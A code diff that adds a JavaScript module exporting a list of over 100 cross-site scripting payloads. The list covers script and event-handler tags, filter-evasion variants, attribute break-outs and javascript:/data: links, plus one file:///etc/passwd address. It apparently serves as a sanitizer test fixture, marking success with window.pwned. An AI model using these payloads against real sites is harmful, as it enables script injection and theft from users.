@@ -1,0 +1,95 @@
+/** What a payload does where it runs: it leaves a mark on the window and asks in a dialog. */
+const RUN = "window.pwned=1;alert('pwned')";
+
+/** Elements that run something by themselves, or when they fail to load, start to move or get the focus. */
+const ELEMENTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt >${RUN}</sCrIpT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  '<script src=data:text/javascript,window.pwned=1></script>',
+  '<script src=//127.0.0.1:9/x.js></script>',
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x onerror=${RUN}//`,
+  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
+  `<img src="javascript:${RUN}">`,
+  `<image src=x onerror="${RUN}">`,
+  `<svg onload="${RUN}">`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
+  `<body onload="${RUN}">`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror="${RUN}">`,
+  `<details open ontoggle="${RUN}">x</details>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<select autofocus onfocus="${RUN}">`,
+  `<textarea autofocus onfocus="${RUN}">`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<style>@import 'javascript:${RUN}';</style>`,
+  `<link rel=stylesheet href="javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="javascript:${RUN}//">`,
+  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
+  `<isindex action="javascript:${RUN}" type=submit>`,
+  `<table background="javascript:${RUN}">`,
+  `<div style="background:url(javascript:${RUN})">x</div>`,
+  `<div onpointerover="${RUN}" style="position:fixed;inset:0">x</div>`,
+  `<template><script>${RUN}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<xss id=x tabindex=1 onfocus="${RUN}"></xss>`,
+];
+
+/** Ways out of an attribute, a text, a template, a comment or a block of JSON. */
+const WAYS_OUT = [
+  '">',
+  "'>",
+  '`>',
+  '</textarea>',
+  '</title>',
+  '</style>',
+  '</script>',
+  '-->',
+  ']]>',
+  '\\">',
+  '{{',
+  '}}',
+  '${',
+  '&quot;&gt;',
+  '\u2028',
+  '\u0000',
+  '%22%3E',
+  '\\u003c',
+  '" autofocus onfocus="',
+  "' onmouseover='",
+].map((way) => `${way}<img src=x onerror="${RUN}">`);
+
+/** Addresses, as links of Markdown, of angle brackets and bare. */
+const ADDRESSES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java&#x0A;script:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  ` javascript:${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  `//127.0.0.1:9/"onmouseover="${RUN}`,
+  'blob:null/x',
+  'file:///etc/passwd',
+].flatMap((address) => [`[press](${address})`, `![see](${address})`, `<${address}>`]);
+
+/** More than 100 texts that would run a script wherever one of them became part of the page. */
+export const SCRIPT_PAYLOADS = [
+  ...ELEMENTS,
+  ...WAYS_OUT,
+  ...ADDRESSES,
+  `[ref]\n\n[ref]: javascript:${RUN}`,
+];
